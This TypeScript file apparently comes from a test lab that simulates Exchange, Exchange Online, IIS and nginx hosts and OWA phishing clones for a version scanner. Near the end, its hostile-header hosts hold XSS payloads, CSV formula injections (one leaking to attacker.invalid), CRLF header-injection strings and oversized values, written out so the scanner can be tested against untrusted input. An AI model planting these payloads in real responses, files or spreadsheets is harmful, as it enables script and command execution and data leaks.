/**
 * What each simulated host answers over HTTP: route tables for Exchange 2010/2013/2016/2019/SE servers,
 * Exchange Online front ends and the decoys (IIS, nginx, OWA phishing clones), plus the header-level
 * hostile hosts. Pure (no sockets); the server renders a host's tables on its first connection.
 *
 * Modelled on what real servers send to an anonymous client:
 *  - GET /owa/ → 302 to /owa/auth/logon.aspx?url=...&reason=0 (URL-encoded on 2013+, plain on 2010), with
 *    X-OWA-Version (unless an admin's rewrite rule strips it), X-FEServer (2013+), request-id.
 *  - GET /owa/auth/logon.aspx → 200, the forms logon page with the versioned asset paths.
 *  - /EWS/, /autodiscover/, /Microsoft-Server-ActiveSync, /mapi/, /rpc/, /oab/ → 401 Negotiate/NTLM (+Basic),
 *    with X-CalculatedBETarget on 2013+.
 *  - /ecp/ → 302 to the logon page; /ecp/Current/exporttool/...application and /ecp/<build>/exporttool/...
 *    → the ClickOnce manifest (2013+), unless ECP is blocked at the edge (then 403 for all of /ecp/).
 *  - IIS answers "/" with its start page (or an admin's redirect to /owa) and unknown paths with its 404 page.
 */
import type { LabHost } from './estate.js';
import { prng } from './estate.js';
import {
  aspnetObjectMoved,
  exporttoolManifest,
  iis75StartPage,
  iisErrorPage,
  iisStartPage,
  logonPage,
  logonPage2010,
  nginxError,
  nginxWelcome,
  objectMovedBody,
} from './pages.js';
import { AUTH, AUTH_ENC, renderRoute, type PrefixRoute, type Route, type RouteSpec, type RouteTable } from './routes.js';

export const EXPORTTOOL_FILE = 'microsoft.exchange.ediscovery.exporttool.application';

type Hdr = readonly [string, string];

/** Deterministic request-id GUIDs per host (real servers send a fresh one per request; scanners don't care). */
function guidSource(host: LabHost): () => string {
  const rng = prng((host.index * 2654435761) >>> 0);
  const hex = (n: number): string => {
    let s = '';
    for (let i = 0; i < n; i++) s += Math.floor(rng() * 16).toString(16);
    return s;
  };
  return () => `${hex(8)}-${hex(4)}-4${hex(3)}-${'89ab'[Math.floor(rng() * 4)] ?? '8'}${hex(3)}-${hex(12)}`;
}

function familyOf(build: string | null): '2010' | '2013' | '2016' | '2019+' {
  if (build === null || build.startsWith('14.')) return '2010';
  if (build.startsWith('15.0.')) return '2013';
  if (build.startsWith('15.1.')) return '2016';
  return '2019+';
}

/** IIS version by Windows Server generation typical for the edition. */
export function iisVersionFor(host: LabHost): string {
  switch (familyOf(host.build)) {
    case '2010':
      return host.index % 8 === 0 ? '7.0' : '7.5';
    case '2013':
      return host.index % 5 === 0 ? '8.0' : '8.5';
    case '2016':
      return host.index % 3 === 0 ? '8.5' : '10.0';
    default:
      return '10.0';
  }
}

const LAST_MODIFIED = 'Tue, 15 Dec 2020 09:12:40 GMT';

/** Bodies shared between hosts (keyed by what they depend on), so 65,536 hosts don't hold 65,536 pages. */
export class BodyCache {
  private readonly map = new Map<string, Buffer>();
  private readonly routes = new Map<string, Route | PrefixRoute>();
  /** A route that depends only on `key` (e.g. the IIS 404 page of one IIS version), shared between hosts. */
  route<T extends Route | PrefixRoute>(key: string, make: () => T): T {
    let r = this.routes.get(key) as T | undefined;
    if (r === undefined) {
      r = make();
      this.routes.set(key, r);
    }
    return r;
  }
  get(key: string, make: () => string | Buffer): Buffer {
    let b = this.map.get(key);
    if (b === undefined) {
      const v = make();
      b = typeof v === 'string' ? Buffer.from(v, 'utf8') : v;
      this.map.set(key, b);
    }
    return b;
  }
  get size(): number {
    return this.map.size;
  }
}

// A 1x1 transparent PNG, a tiny GIF and an ICO header: asset bodies only need to be plausible.
const PNG_1X1 = Buffer.from(
  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082',
  'hex',
);
const GIF_1X1 = Buffer.from('47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b', 'hex');
const ICO_STUB = Buffer.concat([Buffer.from('0000010001001010000001002000', 'hex'), PNG_1X1]);

const ASSETS: readonly (readonly [string, string, Buffer])[] = [
  ['.png', 'image/png', PNG_1X1],
  ['.gif', 'image/gif', GIF_1X1],
  ['.ico', 'image/x-icon', ICO_STUB],
  ['.css', 'text/css', Buffer.from('/* Copyright (c) Microsoft Corporation.  All rights reserved. */\n.signInBg{background:#f2f2f2}\n')],
  ['.js', 'application/javascript', Buffer.from('/* Copyright (c) Microsoft Corporation.  All rights reserved. */\nvar a_fLoaded=1;\n')],
  ['.ttf', 'application/octet-stream', Buffer.alloc(64)],
  ['.eot', 'application/vnd.ms-fontobject', Buffer.alloc(64)],
];

function assetPrefix(prefix: string, server: Hdr[], etagSeed: string, cache: BodyCache): PrefixRoute {
  return cache.route(`asset:${prefix}:${server.join()}:${etagSeed}`, () => renderAssetPrefix(prefix, server, etagSeed, cache));
}

function renderAssetPrefix(prefix: string, server: Hdr[], etagSeed: string, cache: BodyCache): PrefixRoute {
  const byExt = new Map<string, Route>();
  for (const [ext, type, body] of ASSETS) {
    byExt.set(
      ext,
      renderRoute({
        status: 200,
        reason: 'OK',
        headers: [
          ['Content-Type', type],
          ['Last-Modified', LAST_MODIFIED],
          ['Accept-Ranges', 'bytes'],
          ['ETag', `"${etagSeed}${ext.slice(1)}:0"`],
          ...server,
          ['X-Powered-By', 'ASP.NET'],
        ],
        body,
      }),
    );
  }
  return { prefix, route: iis404(server, cache), byExt };
}

function iis404(server: readonly Hdr[], cache: BodyCache): Route {
  return cache.route(`404:${server.join()}`, () => renderRoute({
    status: 404,
    reason: 'Not Found',
    headers: [['Content-Type', 'text/html'], ...server, ['X-Powered-By', 'ASP.NET']],
    body: iisErrorPage(404, 'File or directory not found.', 'The resource you are looking for might have been removed, had its name changed, or is temporarily unavailable.'),
  }));
}

function iis403(server: readonly Hdr[], cache: BodyCache): Route {
  return cache.route(`403:${server.join()}`, () => renderRoute({
    status: 403,
    reason: 'Forbidden',
    headers: [['Content-Type', 'text/html'], ...server, ['X-Powered-By', 'ASP.NET']],
    body: iisErrorPage(403, 'Forbidden: Access is denied.', 'You do not have permission to view this directory or page using the credentials that you supplied.'),
  }));
}

function iisStart(server: readonly Hdr[], iis: string, cache: BodyCache): Route {
  const old = iis === '7.5' || iis === '7.0';
  return renderRoute({
    status: 200,
    reason: 'OK',
    headers: [
      ['Content-Type', 'text/html'],
      ['Last-Modified', old ? 'Fri, 21 Feb 2014 10:12:03 GMT' : 'Mon, 07 Dec 2020 16:22:16 GMT'],
      ['Accept-Ranges', 'bytes'],
      ['ETag', old ? '"ce1b3c5b2f4dcf1:0"' : '"0b2a8e7e2ccd61:0"'],
      ...server,
      ['X-Powered-By', 'ASP.NET'],
    ],
    body: cache.get(old ? 'iis75-start' : 'iis-start', old ? iis75StartPage : iisStartPage),
  });
}

/** IIS HTTP Redirect module (an admin's redirect, or the courtesy redirect to a folder's slash). */
function iisRedirect(status: 301 | 302, reason: string, location: string, server: readonly Hdr[]): Route {
  return renderRoute({
    status,
    reason,
    headers: [['Content-Type', 'text/html; charset=UTF-8'], ['Location', location], ...server, ['X-Powered-By', 'ASP.NET']],
    body: objectMovedBody(location),
  });
}

// ---------------------------------------------------------------------------------------------------------
// Exchange on-premises

function exchangeTable(host: LabHost, cache: BodyCache): RouteTable {
  const fam = familyOf(host.build);
  const wire = host.wireBuild ?? '';
  const iis = iisVersionFor(host);
  const server: Hdr[] = [['Server', `Microsoft-IIS/${iis}`]];
  const guid = guidSource(host);
  const owaVer: Hdr[] = host.exposes.xOwaVersion ? [['X-OWA-Version', wire]] : [];
  const fe: Hdr[] = fam === '2010' || host.serverName === null ? [] : [['X-FEServer', host.serverName]];
  const beFqdn = `${(host.serverName ?? 'exch01').toLowerCase()}.corp.${host.hostname.split('.').slice(1).join('.') || 'example'}`.replace(/\.example$/, '.local');
  const aspnet: Hdr = ['X-AspNet-Version', fam === '2010' ? '2.0.50727' : '4.0.30319'];
  const exact = new Map<string, Route>();
  const prefixes: PrefixRoute[] = [];

  const logonUrl = (vdir: string): string =>
    fam === '2010'
      ? `https://${AUTH}/owa/auth/logon.aspx?url=https://${AUTH}/${vdir}/&reason=0`
      : `https://${AUTH}/owa/auth/logon.aspx?url=https%3a%2f%2f${AUTH_ENC}%2f${vdir}%2f&reason=0`;
  const fbaRedirect = (vdir: string): Route =>
    renderRoute({
      status: 302,
      reason: 'Found',
      headers: [
        ['Cache-Control', fam === '2010' ? 'private' : 'no-cache'],
        ...(fam === '2010' ? ([['Content-Type', 'text/html; charset=utf-8']] as Hdr[]) : ([['Pragma', 'no-cache']] as Hdr[])),
        ['Location', logonUrl(vdir)],
        ...server,
        ...(fam === '2010' ? [] : ([['request-id', guid()]] as Hdr[])),
        ...(vdir === 'owa' ? owaVer : []),
        ...(fam === '2010' ? [aspnet] : []),
        ['X-Powered-By', 'ASP.NET'],
        ...fe,
      ],
      body: '',
    });
  const unauthorized = (realmBasic: boolean, withOwaVersion: boolean): Route =>
    renderRoute({
      status: 401,
      reason: 'Unauthorized',
      headers: [
        ['Cache-Control', 'private'],
        ...server,
        ...(fam === '2010' ? [] : ([['request-id', guid()], ['X-CalculatedBETarget', beFqdn]] as Hdr[])),
        ...(fam === '2010' ? [] : [aspnet]),
        ...(withOwaVersion ? owaVer : []),
        ['WWW-Authenticate', 'Negotiate'],
        ['WWW-Authenticate', 'NTLM'],
        ['X-Powered-By', 'ASP.NET'],
        ...fe,
        ...(realmBasic ? ([['WWW-Authenticate', `Basic realm="${host.hostname}"`]] as Hdr[]) : []),
      ],
      body: '',
    });

  // "/" — IIS start page, or the admin's redirect to OWA.
  exact.set(
    '/',
    host.variant === 'root-redirect-owa' ? iisRedirect(302, 'Redirect', `https://${AUTH}/owa`, server) : iisStart(server, iis, cache),
  );
  exact.set('/owa', iisRedirect(301, 'Moved Permanently', `https://${AUTH}/owa/`, server));
  exact.set('/owa/', fbaRedirect('owa'));

  // The logon page.
  const assetVersion = fam === '2010' ? wire : wire.split('.').slice(0, 3).join('.');
  const title = fam === '2010' || fam === '2013' ? 'Outlook Web App' : 'Outlook';
  const page = cache.get(`logon:${fam}:${assetVersion}:${host.hostname}`, () =>
    fam === '2010' ? logonPage2010({ assetVersion, title, hostname: host.hostname }) : logonPage({ assetVersion, title, hostname: host.hostname }),
  );
  exact.set(
    '/owa/auth/logon.aspx',
    renderRoute({
      status: 200,
      reason: 'OK',
      headers: [
        ['Cache-Control', 'no-cache, no-store'],
        ['Pragma', 'no-cache'],
        ['Content-Type', 'text/html; charset=utf-8'],
        ['Expires', '-1'],
        ...server,
        ...(fam === '2010' ? [] : ([['request-id', guid()], ['X-Frame-Options', 'SAMEORIGIN']] as Hdr[])),
        ...owaVer,
        aspnet,
        ['X-Powered-By', 'ASP.NET'],
        ...fe,
      ],
      body: page,
    }),
  );

  // Versioned static assets.
  if (fam === '2010') {
    prefixes.push(assetPrefix(`/owa/${assetVersion}/`, server, 'a1b2c3', cache));
  } else {
    prefixes.push(assetPrefix(`/owa/auth/${assetVersion}/`, server, 'd4e5f6', cache));
    prefixes.push(assetPrefix(`/owa/prem/${assetVersion}/`, server, 'd4e5f7', cache));
  }

  // ECP and the export tool manifest.
  const ecpBlocked = fam !== '2010' && !host.exposes.exporttool;
  if (ecpBlocked) {
    const forbidden = iis403(server, cache);
    exact.set('/ecp', forbidden);
    prefixes.push({ prefix: '/ecp/', route: forbidden });
  } else {
    exact.set('/ecp', iisRedirect(301, 'Moved Permanently', `https://${AUTH}/ecp/`, server));
    exact.set('/ecp/', fbaRedirect('ecp'));
    if (fam !== '2010') {
      const manifest = renderRoute({
        status: 200,
        reason: 'OK',
        headers: [
          ['Content-Type', 'application/x-ms-application'],
          ['Last-Modified', LAST_MODIFIED],
          ['Accept-Ranges', 'bytes'],
          ['ETag', '"80e1b2a4c8d2d61:0"'],
          ...server,
          ['request-id', guid()],
          ['X-CalculatedBETarget', beFqdn],
          ['X-Powered-By', 'ASP.NET'],
          ...(host.serverName === null ? [] : ([['X-BEServer', host.serverName]] as Hdr[])),
          ...fe,
        ],
        body: cache.get(`manifest:${wire}`, () => exporttoolManifest(wire)),
      });
      exact.set(`/ecp/current/exporttool/${EXPORTTOOL_FILE}`, manifest);
      exact.set(`/ecp/${wire}/exporttool/${EXPORTTOOL_FILE}`, manifest);
    } else {
      exact.set(`/ecp/current/exporttool/${EXPORTTOOL_FILE}`, iis404(server, cache));
    }
    prefixes.push({ prefix: '/ecp/', route: fbaRedirect('ecp') });
  }

  // Authenticated protocol endpoints.
  const ews = unauthorized(host.index % 2 === 0, fam !== '2010');
  for (const p of ['/ews/', '/autodiscover/', '/mapi/', '/rpc/', '/oab/', '/powershell']) prefixes.push({ prefix: p, route: ews });
  exact.set('/ews/exchange.asmx', ews);
  exact.set('/autodiscover/autodiscover.xml', ews);
  prefixes.push({ prefix: '/microsoft-server-activesync', route: unauthorized(true, true) });
  prefixes.push({ prefix: '/owa/', route: fbaRedirect('owa') });

  return { exact, prefixes, fallback: iis404(server, cache) };
}

// ---------------------------------------------------------------------------------------------------------
// Exchange Online front end

function onlineTable(host: LabHost): RouteTable {
  const guid = guidSource(host);
  const rng = prng(host.index + 7);
  const region = ['EURPRD05', 'EURPRD09', 'NAMPRD03', 'NAMPRD11', 'APCPRD02'][host.index % 5] ?? 'EURPRD05';
  const be = `${region.slice(0, 2)}${Math.floor(rng() * 9)}PR0${Math.floor(rng() * 9)}MB${1000 + Math.floor(rng() * 8999)}`;
  const fe = host.serverName ?? 'AM0PR10CA0012';
  const common = (status: string): Hdr[] => [
    ['Server', 'Microsoft-IIS/10.0'],
    ['request-id', guid()],
    ['Strict-Transport-Security', 'max-age=31536000; includeSubDomains; preload'],
    ['X-CalculatedFETarget', `${fe.replace(/CA\d+$/, 'CU001')}.internal.outlook.com`],
    ['X-BackEndHttpStatus', status],
    ['X-CalculatedBETarget', `${be}.${region}.PROD.OUTLOOK.COM`],
    ['X-OWA-Version', host.wireBuild ?? '15.20.3912.30'],
    ['X-DiagInfo', be],
    ['X-BEServer', be],
    ['X-Powered-By', 'ASP.NET'],
    ['X-FEServer', fe],
  ];
  const login = (vdir: string): Route => {
    const loc = `https://login.microsoftonline.com/common/oauth2/authorize?client_id=00000002-0000-0ff1-ce00-000000000000&redirect_uri=https%3a%2f%2foutlook.office365.com%2f${vdir}%2f&resource=00000002-0000-0ff1-ce00-000000000000&response_mode=form_post&response_type=code+id_token&scope=openid&msafed=1&msaredir=1&client-request-id=${guid()}&protectedtoken=true&nonce=637520000000000000.${guid()}&state=${'Dcs' + guid().replace(/-/g, '')}`;
    return renderRoute({
      status: 302,
      reason: 'Found',
      headers: [['Cache-Control', 'no-cache, no-store'], ['Pragma', 'no-cache'], ['Content-Type', 'text/html; charset=utf-8'], ['Location', loc], ...common('302')],
      body: aspnetObjectMoved(loc),
    });
  };
  const bearer = renderRoute({
    status: 401,
    reason: 'Unauthorized',
    headers: [
      ...common('401'),
      [
        'WWW-Authenticate',
        'Bearer client_id="00000002-0000-0ff1-ce00-000000000000", trusted_issuers="00000001-0000-0000-c000-000000000000@*", token_types="app_asserted_user_v1 service_asserted_app_v1", authorization_uri="https://login.microsoftonline.com/common/oauth2/authorize", error="invalid_token"',
      ],
      ['WWW-Authenticate', 'Basic Realm=""'],
    ],
    body: '',
  });
  const owa = login('owa');
  const exact = new Map<string, Route>([
    ['/', iisRedirect(301, 'Moved Permanently', 'https://outlook.office365.com/owa/', [['Server', 'Microsoft-IIS/10.0']])],
    ['/owa', owa],
    ['/owa/', owa],
    ['/ecp/', login('ecp')],
  ]);
  const notFound = renderRoute({ status: 404, reason: 'Not Found', headers: [['Content-Type', 'text/html'], ...common('404')], body: '' });
  return {
    exact,
    prefixes: [
      { prefix: '/ecp/current/exporttool/', route: notFound },
      { prefix: '/owa/', route: owa },
      { prefix: '/ecp/', route: login('ecp') },
      { prefix: '/ews/', route: bearer },
      { prefix: '/autodiscover/', route: bearer },
      { prefix: '/mapi/', route: bearer },
      { prefix: '/microsoft-server-activesync', route: bearer },
    ],
    fallback: notFound,
  };
}

// ---------------------------------------------------------------------------------------------------------
// Decoys

function iisTable(host: LabHost, cache: BodyCache): RouteTable {
  const iis = host.variant === 'iis-7.5' ? '7.5' : host.variant === 'iis-8.5' ? '8.5' : '10.0';
  const server: Hdr[] = [['Server', `Microsoft-IIS/${iis}`]];
  const start = iisStart(server, iis, cache);
  const png = renderRoute({
    status: 200,
    reason: 'OK',
    headers: [['Content-Type', 'image/png'], ['Last-Modified', LAST_MODIFIED], ['Accept-Ranges', 'bytes'], ['ETag', '"1c4a2b3d5e6f:0"'], ...server, ['X-Powered-By', 'ASP.NET']],
    body: PNG_1X1,
  });
  return {
    exact: new Map([
      ['/', start],
      ['/iisstart.htm', start],
      ['/iisstart.png', png],
      ['/welcome.png', png],
    ]),
    prefixes: [],
    fallback: iis404(server, cache),
  };
}

function nginxTable(host: LabHost, cache: BodyCache): RouteTable {
  const server = host.index % 2 === 0 ? 'nginx/1.18.0 (Ubuntu)' : 'nginx';
  const hdr = (type: string): Hdr[] => [
    ['Server', server],
    ['Content-Type', type],
  ];
  const notFound = renderRoute({ status: 404, reason: 'Not Found', headers: hdr('text/html'), body: nginxError(404, 'Not Found', server) });
  if (host.variant === 'nginx-404') return { exact: new Map(), prefixes: [], fallback: notFound };
  const welcome = renderRoute({
    status: 200,
    reason: 'OK',
    headers: [...hdr('text/html'), ['Last-Modified', 'Tue, 21 Apr 2020 14:09:01 GMT'], ['ETag', '"5e9efe7d-264"'], ['Accept-Ranges', 'bytes']],
    body: cache.get('nginx-welcome', nginxWelcome),
  });
  return { exact: new Map([['/', welcome], ['/index.html', welcome]]), prefixes: [], fallback: notFound };
}

/**
 * Phishing kits and honeypots clone the OWA logon page (markers, asset paths, form) but not the server:
 * no X-OWA-Version, no X-FEServer, no export tool manifest. One kind of signal only.
 */
function phishTable(host: LabHost, cache: BodyCache): RouteTable {
  switch (host.variant) {
    case 'iis75-honeypot': {
      // The honeypot tell: a 2016 page (15.1.1466) served by IIS 7.5.
      const server: Hdr[] = [['Server', 'Microsoft-IIS/7.5']];
      const page = cache.get('phish:honeypot', () => logonPage({ assetVersion: '15.1.1466', title: 'Outlook', hostname: 'mail.example.org' }));
      const logon = renderRoute({
        status: 200,
        reason: 'OK',
        headers: [['Cache-Control', 'no-cache, no-store'], ['Pragma', 'no-cache'], ['Content-Type', 'text/html; charset=utf-8'], ...server, ['X-Powered-By', 'ASP.NET']],
        body: page,
      });
      const redirect = renderRoute({
        status: 302,
        reason: 'Found',
        headers: [['Location', `https://${AUTH}/owa/auth/logon.aspx?url=https%3a%2f%2f${AUTH_ENC}%2fowa%2f&reason=0`], ...server, ['X-Powered-By', 'ASP.NET']],
        body: '',
      });
      return {
        exact: new Map([
          ['/', redirect],
          ['/owa', redirect],
          ['/owa/', redirect],
          ['/owa/auth/logon.aspx', logon],
        ]),
        prefixes: [assetPrefix('/owa/auth/15.1.1466/', server, 'beef', cache)],
        fallback: iis404(server, cache),
      };
    }
    case 'nginx-kit': {
      const page = cache.get('phish:nginx', () => logonPage({ assetVersion: '15.0.1497', title: 'Outlook Web App', hostname: host.hostname, action: 'login.php' }));
      const r = renderRoute({ status: 200, reason: 'OK', headers: [['Server', 'nginx'], ['Content-Type', 'text/html; charset=UTF-8']], body: page });
      return { exact: new Map(), prefixes: [], fallback: r };
    }
    default: {
      // apache-php-kit
      const server = 'Apache/2.4.41 (Ubuntu)';
      const page = cache.get('phish:apache', () => logonPage({ assetVersion: '15.1.2176', title: 'Outlook', hostname: host.hostname, action: 'next.php' }));
      const hdr: Hdr[] = [
        ['Server', server],
        ['Set-Cookie', 'PHPSESSID=q8b1lf2k0vd5m7s3c9e4h6j2a1; path=/'],
        ['Expires', 'Thu, 19 Nov 1981 08:52:00 GMT'],
        ['Cache-Control', 'no-store, no-cache, must-revalidate'],
        ['Pragma', 'no-cache'],
        ['Vary', 'Accept-Encoding'],
        ['Content-Type', 'text/html; charset=UTF-8'],
      ];
      const r = renderRoute({ status: 200, reason: 'OK', headers: hdr, body: page });
      const notFound = renderRoute({
        status: 404,
        reason: 'Not Found',
        headers: [['Server', server], ['Content-Type', 'text/html; charset=iso-8859-1']],
        body: `<!DOCTYPE HTML PUBLIC "-//IETF//DTD HTML 2.0//EN">\n<html><head>\n<title>404 Not Found</title>\n</head><body>\n<h1>Not Found</h1>\n<p>The requested URL was not found on this server.</p>\n<hr>\n<address>${server} Server at ${host.hostname} Port 443</address>\n</body></html>\n`,
      });
      return {
        exact: new Map([
          ['/', r],
          ['/owa', r],
          ['/owa/', r],
          ['/owa/auth/logon.aspx', r],
          ['/index.php', r],
        ]),
        prefixes: [],
        fallback: notFound,
      };
    }
  }
}

// ---------------------------------------------------------------------------------------------------------
// Header-level hostility (answered over HTTP, but with values that must never be trusted or echoed raw)

const HUGE_LINE = 1024 * 1024;

/** Header sets of the 'hostile-headers' hosts. No value contains a well-formed Exchange build. */
export function hostileHeaders(variant: string): Hdr[] {
  switch (variant) {
    case 'script':
      return [
        ['Server', '<script>alert(1)</script>'],
        ['X-OWA-Version', '<img src=x onerror=alert(document.domain)>'],
        ['X-Powered-By', '"><svg/onload=alert(1)>'],
        ['Content-Type', 'text/html'],
      ];
    case 'csv-formula':
      return [
        ['Server', `=cmd|' /C calc'!A0`],
        ['X-Powered-By', `+SUM(1+1)*cmd|' /C calc'!A0`],
        ['X-OWA-Version', `@HYPERLINK("http://attacker.invalid/?leak="&A1,"click")`],
        ['X-Note', `-2+3+cmd|' /C notepad'!'A1'`],
        ['Content-Type', 'text/html'],
      ];
    case 'long-value':
      return [
        ['Server', `IIS${'A'.repeat(16_000)}`],
        ['X-OWA-Version', '9'.repeat(4096)],
        ...Array.from({ length: 200 }, (_, i) => [`X-Pad-${i}`, 'x'.repeat(40)] as Hdr),
        ['Content-Type', 'text/html'],
      ];
    case 'non-utf8':
      return [
        // Invalid UTF-8 sequences and a build-like number with middle dots (not a build).
        ['Server', '\xc3\x28\xa0\xa1\xe2\x28\xa1\xf0\x28\x8c\xbc\xff\xfe'],
        ['X-OWA-Version', '15\xb71\xb72176\xb79'],
        ['X-Powered-By', '\x80\x81\x82\xfe\xff ASP.NET'],
        ['Content-Type', 'text/html; charset=utf-8'],
      ];
    default:
      // crlf-ish: encoded and escaped CR/LF, and one bare CR that a strict parser rejects.
      return [
        ['Server', 'Microsoft-IIS/10.0%0d%0aSet-Cookie:%20injected=1'],
        ['Location', '/owa/%0d%0aX-Injected:%20yes'],
        ['X-Escaped', 'line1\\r\\nX-Fake-Header: fake'],
        ['X-Bare-CR', 'one\rInjected-After-CR: two'],
        ['Content-Type', 'text/html'],
      ];
  }
}

function hostileTable(host: LabHost): RouteTable {
  const r = renderRoute({
    status: 200,
    reason: 'OK',
    headers: hostileHeaders(host.variant),
    body: '<html><head><title><script>alert("title")</script></title></head><body>=cmd|\' /C calc\'!A0</body></html>',
  });
  return { exact: new Map(), prefixes: [], fallback: r };
}

/** Responses of 'oversized' hosts that fit a route (huge header line, many headers); the 50 MB body streams. */
function oversizedTable(host: LabHost, cache: BodyCache): RouteTable {
  if (host.variant === 'huge-header-line') {
    const line = cache.get('huge-line', () => `HTTP/1.1 200 OK\r\nServer: Microsoft-IIS/10.0\r\nX-Padding: ${'A'.repeat(HUGE_LINE)}\r\n`);
    const r: Route = { pre: line, post: Buffer.from('Content-Type: text/html\r\nContent-Length: 2\r\n\r\n'), body: Buffer.from('ok'), dynamic: null };
    return { exact: new Map(), prefixes: [], fallback: r };
  }
  const many = cache.get('many-headers', () => {
    let s = 'HTTP/1.1 200 OK\r\nServer: Microsoft-IIS/10.0\r\n';
    for (let i = 0; i < 20_000; i++) s += `X-Header-${i}: value-${i}\r\n`;
    return s;
  });
  const r: Route = { pre: many, post: Buffer.from('Content-Type: text/html\r\nContent-Length: 2\r\n\r\n'), body: Buffer.from('ok'), dynamic: null };
  return { exact: new Map(), prefixes: [], fallback: r };
}

/** The HTTPS route table of a host that answers HTTP (null for kinds handled at the socket level). */
export function httpsRoutes(host: LabHost, cache: BodyCache): RouteTable | null {
  switch (host.kind) {
    case 'exchange':
      return exchangeTable(host, cache);
    case 'exchange-online':
      return onlineTable(host);
    case 'iis':
      return iisTable(host, cache);
    case 'nginx':
      return nginxTable(host, cache);
    case 'owa-phish':
      return phishTable(host, cache);
    case 'hostile-headers':
      return hostileTable(host);
    case 'oversized':
      return host.variant === 'body-50mb' ? null : oversizedTable(host, cache);
    default:
      return null;
  }
}

/**
 * How the plain-HTTP port answers: Exchange and Exchange Online redirect every path to https on the same
 * host ('redirect'); decoys and hostile hosts answer as on HTTPS ('same').
 */
export function httpMode(host: LabHost): 'redirect' | 'same' {
  return host.kind === 'exchange' || host.kind === 'exchange-online' ? 'redirect' : 'same';
}

/** Pre-rendered pieces of the http→https redirect; the URL (https://host[:port]/path) is inserted per request. */
export function httpsRedirectParts(host: LabHost): { readonly head1: Buffer; readonly head2: Buffer; readonly body1: Buffer; readonly body2: Buffer } {
  const server = host.kind === 'exchange-online' ? '10.0' : iisVersionFor(host);
  return {
    head1: Buffer.from(`HTTP/1.1 302 Redirect\r\nContent-Type: text/html; charset=UTF-8\r\nLocation: `, 'latin1'),
    head2: Buffer.from(`\r\nServer: Microsoft-IIS/${server}\r\nX-Powered-By: ASP.NET\r\n`, 'latin1'),
    body1: Buffer.from('<head><title>Document Moved</title></head>\n<body><h1>Object Moved</h1>This document may be found <a HREF="', 'latin1'),
    body2: Buffer.from('">here</a></body>', 'latin1'),
  };
}

export type { RouteSpec };
